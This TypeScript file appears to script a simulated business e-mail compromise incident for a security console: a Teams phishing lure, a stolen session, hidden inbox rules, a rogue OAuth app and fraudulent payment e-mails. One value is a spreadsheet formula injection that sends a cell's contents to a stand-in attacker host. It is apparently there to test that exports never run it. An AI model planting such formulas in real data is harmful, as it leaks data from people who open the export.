// Business e-mail compromise: a Teams message, a stolen session, rules that hide mail, and a new bank account.
import {
  cloudApplication,
  mail,
  mailboxRule,
  oauthApplication,
  servicePrincipal,
  submission,
  teamsMessage,
} from '../applications.ts';
import { file } from '../devices.ts';
import { cloudRequest, cloudSession, ip, url } from '../network.ts';
import { ANALYSTS, mailbox, PEOPLE, user } from '../people.ts';
import { guidFor } from '../identifiers.ts';
import { inOrder, seen } from '../script.ts';
import type { AlertScript, IncidentScript } from '../script.ts';

const victim = PEOPLE.hanna;
const victimUser = user(victim);
const proxy = ip('192.0.2.88');
const hosted = ip('192.0.2.163');
const lure = url('https://login.microsoftonline.com.harbor-sso.example/common/oauth2');
// The client names itself like a spreadsheet formula; nothing that shows or exports it may run it.
const session = cloudSession(
  victimUser,
  guidFor('session/hweber/stolen'),
  '=HYPERLINK("https://harbor-sso.example/?c="&A1,"Mozilla/5.0")',
);
const application = oauthApplication('Mail Archive Helper', null);
const payment = 'New bank details for freight invoices - effective immediately';
const BAD = { verdict: 'malicious', remediation: 'active' } as const;
const ODD = { verdict: 'suspicious', remediation: 'active' } as const;

const entry: readonly AlertScript[] = [
  {
    after: '0m',
    from: 'office',
    title: 'Malicious URL detected in a Teams message from an external sender',
    severity: 'medium',
    category: 'InitialAccess',
    techniques: ['T1566.003'],
    tells: 'Someone who calls himself "Help Desk" asks Hanna Weber to sign in again.',
    evidence: [
      seen(
        teamsMessage({
          to: [PEOPLE.hanna, PEOPLE.erik],
          from: 'helpdesk@it-support-desk.example',
          senderIp: '192.0.2.88',
          subject: 'Your session expires in 15 minutes',
          urls: [lure],
          files: [file(null, '/teams/mfa_reset_guide.html')],
        }),
        'attacker',
        { verdict: 'malicious', remediation: 'remediated' },
      ),
      seen(lure, 'suspicious', { verdict: 'malicious', remediation: 'blocked' }),
      seen(victimUser, 'attacked'),
    ],
  },
  {
    after: '7m',
    from: 'entra',
    title: 'Attacker in the Middle',
    severity: 'high',
    category: 'CredentialAccess',
    techniques: ['T1557', 'T1539'],
    tells: 'A sign-in of Hanna Weber went through a reverse proxy that keeps the session.',
    evidence: [
      seen(victimUser, 'compromised', BAD),
      seen(proxy, 'attacker', { verdict: 'malicious' }),
      seen(session, 'suspicious', ODD),
      seen(cloudRequest(guidFor('request/hweber/aitm')), 'contextual'),
    ],
  },
  {
    after: '9m',
    from: 'entra',
    title: 'Unfamiliar sign-in properties',
    severity: 'low',
    category: 'InitialAccess',
    techniques: ['T1078.004'],
    tells: 'New browser, new network, new country.',
    evidence: [
      seen(victimUser, 'compromised', ODD),
      seen(proxy, 'source', { verdict: 'suspicious' }),
      seen(session, 'suspicious'),
    ],
  },
  {
    after: '26m',
    from: 'cloudApps',
    title: 'Impossible travel activity',
    severity: 'medium',
    category: 'InitialAccess',
    techniques: ['T1078.004'],
    tells: 'Rotterdam and São Paulo within 19 minutes.',
    evidence: [
      seen(victimUser, 'compromised', ODD),
      seen(proxy, 'source', { verdict: 'suspicious' }),
      seen(ip('198.51.100.24'), 'contextual'),
      seen(cloudApplication('office'), 'attacked'),
      seen(session, 'suspicious'),
    ],
  },
];

const hold: readonly AlertScript[] = [
  {
    after: '41m',
    from: 'cloudApps',
    title: 'Suspicious inbox manipulation rule',
    severity: 'high',
    category: 'DefenseEvasion',
    techniques: ['T1564.008'],
    tells: 'Mail with "bank", "invoice" or "payment" is moved to RSS Feeds and marked as read.',
    evidence: [
      seen(victimUser, 'compromised', BAD),
      seen(mailbox(victim), ['attacked', 'edited'], ODD),
      seen(mailboxRule(victim, 'userInboxRule', '.'), 'created', BAD),
      seen(hosted, 'source', { verdict: 'suspicious' }),
      seen(cloudApplication('exchange'), 'attacked'),
    ],
  },
  {
    after: '44m',
    from: 'office',
    title: 'Creation of forwarding/redirect rule',
    severity: 'informational',
    category: 'Collection',
    techniques: ['T1114.003'],
    tells: 'Copies of mail go to an address outside.',
    evidence: [
      seen(mailbox(victim), 'edited'),
      seen(mailboxRule(victim, 'mailForwardingRule', 'Archive copy'), 'created', BAD),
      seen(victimUser, 'compromised'),
    ],
  },
  {
    after: '58m',
    from: 'appGovernance',
    title: 'App with suspicious OAuth scope was granted consent',
    severity: 'medium',
    category: 'Persistence',
    techniques: ['T1098.003', 'T1528'],
    tells:
      'Mail Archive Helper may read and send mail for Hanna Weber, also while she is signed out.',
    evidence: [
      seen(application, ['suspicious', 'added'], BAD),
      seen(servicePrincipal('Mail Archive Helper'), 'created', ODD),
      seen(victimUser, 'compromised'),
    ],
  },
  {
    after: '1h04m',
    from: 'cloudApps',
    title: 'Suspicious OAuth app file download activities',
    severity: 'medium',
    category: 'Collection',
    techniques: ['T1213.002'],
    tells: 'Mail Archive Helper reads folders of Finance in SharePoint.',
    evidence: [
      seen(application, 'attacker', BAD),
      seen(cloudApplication('sharePoint'), 'attacked'),
      seen(victimUser, 'compromised'),
      seen(hosted, 'source'),
    ],
  },
  {
    after: '1h30m',
    from: 'xdr',
    title: 'Suspicious MFA method added to a compromised account',
    severity: 'high',
    category: 'Persistence',
    techniques: ['T1098.005'],
    tells: 'A telephone number was registered from the stolen session.',
    evidence: [
      seen(victimUser, ['compromised', 'edited'], BAD),
      seen(hosted, 'source', { verdict: 'suspicious' }),
    ],
  },
];

const targets = [PEOPLE.grace, PEOPLE.luca, PEOPLE.ingrid, PEOPLE.pieter];

const fraud: readonly AlertScript[] = [
  {
    after: '1d1h',
    from: 'office',
    title: 'Suspicious email sending patterns detected',
    severity: 'medium',
    category: 'LateralMovement',
    techniques: ['T1534'],
    tells: 'Hanna Weber sends 212 messages in ten minutes.',
    evidence: [seen(mailbox(victim), 'source', ODD), seen(victimUser, 'compromised', BAD)],
  },
  ...targets.map((to, index): AlertScript => ({
    after: `1d1h${String(3 + index)}m`,
    from: 'office',
    title:
      index === 0
        ? 'Email reported by user as malware or phish'
        : 'Internal email with fraudulent payment instructions',
    severity: index === 0 ? 'low' : 'medium',
    category: 'InitialAccess',
    techniques: ['T1534', 'T1657'],
    tells: `${to.displayName} got a message from Hanna Weber with a new bank account.`,
    evidence: [
      seen(
        mail({
          to,
          from: [victim.displayName, 'hweber@northwindharbor.example'],
          subject: payment,
          senderIp: '192.0.2.163',
          threats: ['Phish'],
          found: ['Mailbox intelligence impersonation'],
          direction: 'Intra-org',
          attachments: 1,
        }),
        'suspicious',
        { verdict: 'malicious', remediation: index === 3 ? 'declined' : 'remediated' },
      ),
      seen(mailbox(to), 'attacked'),
      seen(mailbox(victim), 'source', ODD),
      ...(index === 0
        ? [
            seen(
              submission(payment, ['hweber@northwindharbor.example', '192.0.2.163'], to),
              'contextual',
            ),
          ]
        : []),
    ],
  })),
  {
    after: '1d2h10m',
    from: 'xdr',
    title: 'BEC financial fraud attempt launched from a compromised account',
    severity: 'high',
    category: 'Impact',
    techniques: ['T1657'],
    tells:
      'A thread about an invoice of EUR 184,220 was taken over. The account was disabled by attack disruption.',
    tags: ['Attack Disruption', 'BEC fraud'],
    evidence: [
      seen(victimUser, ['compromised', 'attacker'], {
        verdict: 'malicious',
        remediation: 'remediated',
        details: 'Account disabled',
      }),
      seen(mailbox(victim), 'source'),
      seen(mailbox(PEOPLE.luca), 'attacked'),
      seen(hosted, 'attacker', { verdict: 'malicious' }),
      seen(application, 'attacker', BAD),
    ],
  },
  {
    after: '1d3h',
    from: 'dlp',
    title: "DLP policy match for email with subject 'Contract rates 2027'",
    severity: 'low',
    category: 'Exfiltration',
    techniques: ['T1114.003'],
    tells: 'A message with contract rates was forwarded outside by the rule.',
    evidence: [
      seen(victimUser, 'policyViolator'),
      seen(mailbox(victim), 'source'),
      seen(mailboxRule(victim, 'mailForwardingRule', 'Archive copy'), 'contextual'),
    ],
  },
];

export const MAILBOX_FRAUD: IncidentScript = {
  key: 'mailbox-fraud',
  id: '4184',
  startsAt: '-2d 09:18',
  tells:
    'The session of Hanna Weber (Finance) was stolen through a Teams message. Rules hid the answers while colleagues were asked to pay to another account.',
  name: 'BEC financial fraud from the mailbox of Hanna Weber (attack disruption)',
  status: 'active',
  priority: 91,
  systemTags: ['BEC fraud', 'Attack Disruption'],
  customTags: ['Finance'],
  comments: [
    {
      after: '1d3h30m',
      by: ANALYSTS.lin,
      text: 'Treasury stopped the transfer of EUR 184,220. Bank informed.',
    },
  ],
  alerts: inOrder(entry, hold, fraud),
  continues: [
    {
      after: '0s',
      from: 'entra',
      title: 'Suspicious sign-in blocked for a disabled account',
      severity: 'low',
      category: 'InitialAccess',
      techniques: ['T1078.004'],
      tells: 'The stolen session of Hanna Weber is tried again.',
      evidence: [
        seen(victimUser, 'attacked'),
        seen(hosted, 'attacker', { verdict: 'malicious', remediation: 'blocked' }),
      ],
    },
  ],
};
